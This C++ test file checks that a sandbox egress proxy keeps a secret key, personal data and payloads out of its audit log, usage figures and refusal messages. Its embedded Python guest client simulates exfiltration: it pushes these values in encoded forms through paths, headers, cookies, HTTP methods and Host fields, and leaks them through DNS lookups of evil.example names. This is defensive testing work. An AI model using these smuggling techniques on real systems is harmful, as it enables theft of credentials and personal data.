// Property: whatever a guest puts anywhere in its traffic, and whatever a server says back, no
// value of a secret, no personal data and no payload gets into the audit log, into figures, or into
// what is told of a refusal. Seeded; each value in each place, in each writing. (With a whole
// sandbox around it: tests/lab/suite/test_leaks.py.)
#include <filesystem>
#include <fstream>
#include <map>

#include <fcntl.h>

#include <gmock/gmock.h>

#include "mvm/audit/writer.h"
#include "mvm/crypto/trust.h"
#include "mvm/meter/compile.h"
#include "mvm/privacy/filter.h"
#include "mvm/secret/text.h"
#include "mvm/sys/file.h"

#include "../../../src/sandbox/ai_meter.h"
#include "../../../src/sandbox/pii.h"
#include "../../../src/sandbox/secrets.h"
#include "../../../src/sandbox/withhold.h"
#include "../audit/sample.h"
#include "../egress/rig.h"

namespace mvm::sandbox {
namespace {

using ::testing::HasSubstr;

constexpr const char* kPublic = "93.184.216.34";

// What is looked for is the middle of each value.
struct Value {
  const char* kind;
  const char* core;
  std::string text;
};
std::vector<Value> values() {
  return {{"secret", "k7q2zt5whx93", "sk-real-k7q2zt5whx93-value"},
          {"personal data", "m4vy8rj2nq6c", "m4vy8rj2nq6c@example.com"},
          {"personal data", "234-56-7891", "234-56-7891"},
          {"payload", "d9fp3xk7sb5t", "nobody's d9fp3xk7sb5t business"}};
}

std::string percent(std::string_view text) {
  std::string out;
  for (const char c : text) out += "%" + hex(as_bytes(std::string_view(&c, 1)));
  return out;
}
std::vector<std::string> writings(std::string_view core) {
  std::vector<std::string> out{std::string(core), hex(as_bytes(core)), percent(core)};
  for (size_t before = 0; before < 3; ++before) {
    // Without the letters that hold bits of the neighbours.
    const std::string text = secret::base64(std::string(before, 'x') + std::string(core));
    out.push_back(text.substr(before == 0 ? 0 : 4, text.size() - (before == 0 ? 4 : 8)));
  }
  return out;
}

// Says everything back, as an answer of a provider whose model is what the request's is.
constexpr const char* kServer = R"(
import http.server, json, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
  protocol_version = 'HTTP/1.1'
  def log_message(self, *a): pass
  def answer(self):
    body = self.rfile.read(int(self.headers.get('Content-Length', 0)))
    try: model = json.loads(body)['model']
    except Exception: model = 'm'
    text = json.dumps({'model': model, 'usage': {'prompt_tokens': 3, 'completion_tokens': 4, 'total_tokens': 7},
                       'said': self.requestline + str(self.headers) + body.decode(errors='replace')}).encode()
    self.send_response(200); self.send_header('Content-Type', 'application/json')
    self.send_header('Content-Length', str(len(text))); self.end_headers(); self.wfile.write(text)
  do_GET = do_POST = answer
s = http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), H)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain(sys.argv[3], sys.argv[3] + '.key')
s.socket = c.wrap_socket(s.socket, server_side=True, do_handshake_on_connect=False)
s.serve_forever()
)";

// Each value in each writing to each place; prints what refusals say, whole.
constexpr const char* kClient = R"(
import base64, json, socket, ssl, sys, urllib.parse
values, key = json.loads(sys.argv[2]), sys.argv[3]
def ask(target, fields, body, method='POST', host='api.openai.com'):
  c = ssl.create_default_context(cafile=sys.argv[1])
  try:
    s = c.wrap_socket(socket.create_connection(('api.openai.com', 443), 30), server_hostname='api.openai.com')
    head = [method + ' ' + target + ' HTTP/1.1', 'Host: ' + host, *fields, 'Connection: close', 'Content-Length: %d' % len(body), '', '']
    s.sendall('\r\n'.join(head).encode() + body); data = b''
    while (part := s.recv(65536)): data += part
  except OSError as error: print('failed', type(error)); return
  if b'X-Mvm-Egress-Reason' in data: print(data.decode(errors='replace'))
  else: print('passed')
plain = 'Content-Type: text/plain'
for kind, value in values:
  raw = value.encode()
  # A path, a name and a model are recorded, as far as they are none of the others.
  recorded = kind != 'payload'
  texts = {value, urllib.parse.quote(value, safe=''), ''.join('%%%02x' % b for b in raw)}
  # What else personal data is written as, no detector knows.
  if kind == 'secret': texts |= {raw.hex(), base64.b64encode(raw).decode()}
  for text in sorted(texts):
    escaped = urllib.parse.quote(text, safe='%@:+=')
    field = text.replace(' ', '-')
    if recorded: ask('/x/' + escaped + '/y', [plain], b'-')
    ask('/x?q=' + escaped, [plain], b'-'); ask('/x?' + escaped + '=1', [plain], b'-')
    ask('/x;p=' + escaped, [plain], b'-')
    ask('/x', [plain, 'X-Any: ' + text], b'-'); ask('/x', [plain, 'Cookie: a=' + field], b'-'); ask('/x', [plain, 'Authorization: Basic ' + base64.b64encode(b'u:' + text.encode()).decode()], b'-')
    ask('/x', [plain, 'X-' + ''.join(c for c in text if c.isalnum()) + ': 1'], b'-'); ask('/x', [plain, text + ': 1'], b'-')
    ask('/x', [plain], text.encode()); ask('/x', ['Content-Type: application/json'], json.dumps({'a': text, text: 1}).encode())
    ask('/x', ['Content-Type: ' + text], b'-'); ask('/x', ['Content-Type: image/' + field], text.encode())
    ask('/x', [plain], b'-', method=''.join(c for c in text if c.isalnum())); ask('/x', [plain], b'-', host=field + '.example')
    if recorded: ask('/v1/chat/completions', ['Content-Type: application/json'], json.dumps({'model': text, 'messages': [text]}).encode())
    ask('/x', [plain, 'Authorization: Bearer ' + key], text.encode())
    ask('/x', [plain, 'X-Other: ' + key + text], b'-')
    for host in recorded * (field + '.evil.example', text + '.evil.example'):
      try: socket.getaddrinfo(host, 80); print('resolved')
      except (OSError, UnicodeError): print('no such name')
)";

class Leaks : public egress::EgressTest {
 protected:
  void SetUp() override {
    EgressTest::SetUp();
    if (IsSkipped()) return;
    own_address(kPublic);
    resolver_.add("api.openai.com", kPublic);
    network_.enabled = true;
    network_.allow_hosts = {"api.openai.com"};
    network_.pii.mode = "tokenize";
    network_.pii.rules = {"deny us_ssn"};
    network_.ai.metering = true;
    proto::SecretsConfig secrets;
    secrets.rules.resize(1);
    secrets.rules[0].name = "KEY";
    secrets.rules[0].hosts = {"api.openai.com"};
    secrets.values = {{"KEY", values()[0].text}};
    secrets_ = std::make_shared<const secret::Secrets>(secrets);
    withholder_.emplace(secrets_, network_);
    for (const char* folder : {"/log", "/data"}) sys::make_directories(directory() + folder);
    writer_ = std::make_unique<audit::Writer>(audit::session_in(directory() + "/log"),
                                              audit::WriterOptions(), [](const auto&) {});
    data_ = sys::open_file(directory() + "/data", O_RDONLY | O_DIRECTORY);
    meter_ = make_ai_meter(network_, data_.get(),
                           {[this](const metering::UsageNotice& notice) {
                              record(usage_record(withholder_->cleaned(notice)));
                            },
                            [this](std::string_view model) { return withholder_->holds(model); }});
    sink_ = [this](const egress::Event& event) {
      return record(audit::egress_record(withholder_->cleaned(event)));
    };
    settings_.filters = {pii_source(network_, [this](const privacy::Note& note) {
      record(pii_record(withholder_->cleaned(note)));
    })};
    for (auto& source :
         secret_source(secrets_, {[this](const guard::SecretNotice& notice) {
                                    return record(secret_record(withholder_->cleaned(notice)));
                                  },
                                  [](const guard::SecretNotice&) {}}))
      settings_.filters.push_back(std::move(source));
    settings_.filters.push_back(meter_->source());
    allow_host("api.openai.com");
    settings_.policy.inspect = pii_inspection(network_);
    const std::string path = certificate("api.openai.com");
    settings_.trust = crypto::TrustStore::from_pem(as_text(sys::read_file(path, 1 << 20)), path);
    serve({"/usr/bin/python3", "-u", "-c", kServer, kPublic, "443", path},
          {egress::ip(kPublic), 443});
    start_proxy();
  }
  bool record(const audit::Event& event) { return writer_->append(event).has_value(); }
  std::string files_in(const std::string& folder) const {
    std::string out;
    for (const auto& entry : std::filesystem::directory_iterator(directory() + folder)) {
      std::ifstream file(entry.path(), std::ios::binary);
      out.append(std::istreambuf_iterator<char>(file), {});
    }
    return out;
  }

  proto::NetworkConfig network_;
  std::shared_ptr<const secret::Secrets> secrets_;
  std::optional<Withholder> withholder_;
  std::unique_ptr<audit::Writer> writer_;
  sys::Fd data_;
  std::unique_ptr<AiMeter> meter_;
};

TEST_F(Leaks, NoValueGetsIntoTheLogTheFiguresOrARefusal) {
  std::string list;
  for (const Value& value : values())
    list +=
        (list.empty() ? "[[\"" : ", [\"") + std::string(value.kind) + "\", \"" + value.text + "\"]";
  ::testing::internal::CaptureStderr();
  const auto exit =
      guest({"/usr/bin/python3", "-c", kClient, file("authority.pem", proxy_->authority_pem()),
             list + "]", secrets_->all()[0].placeholder});
  proxy_.reset();
  const std::map<std::string, std::string> sinks{
      {"audit", files_in("/log")},
      {"figures", files_in("/data")},  // the journal, which all figures of AI are made of
      {"refusals", exit.out},
      {"messages", ::testing::internal::GetCapturedStderr() + "-"}};
  ASSERT_EQ(exit.err, "");
  // They have in them what they are for.
  for (const char* word :
       {"\"secret_used\"", "\"secret_leaked\"", "\"secret_misused\"", "\"pii_tokenized\"",
        "\"pii_denied\"", "\"ai_usage\"", "\"dns\"", "withheld", "\"pii_undecodable\""})
    EXPECT_THAT(sinks.at("audit"), HasSubstr(word));
  EXPECT_THAT(sinks.at("figures"), HasSubstr("other"));
  for (const char* word : {"secret_leak", "secret_misuse", "personal_data", "unreadable",
                           "authority_mismatch", "passed"})
    EXPECT_THAT(sinks.at("refusals"), HasSubstr(word));
  for (const auto& [sink, text] : sinks)
    for (const Value& value : values())
      for (const std::string& written : writings(value.core)) {
        const size_t at = text.find(written);
        EXPECT_EQ(at, text.npos) << value.kind << " in " << sink << ": "
                                 << text.substr(at < 200 ? 0 : at - 200, 400);
      }
}

}
}
